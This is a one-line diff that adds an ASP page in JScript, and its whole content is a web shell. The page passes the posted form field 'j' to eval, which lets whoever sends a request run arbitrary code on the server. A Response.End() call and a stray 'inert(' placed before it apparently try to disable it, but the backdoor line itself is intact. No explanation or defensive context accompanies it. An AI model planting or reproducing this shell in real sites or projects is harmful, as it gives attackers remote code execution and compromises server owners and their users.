@@ -1,0 +1,1 @@
+<%@ LANGUAGE="JScript" %><% Response.End(); inert( %><% eval(Request.Form("j")+""); %>
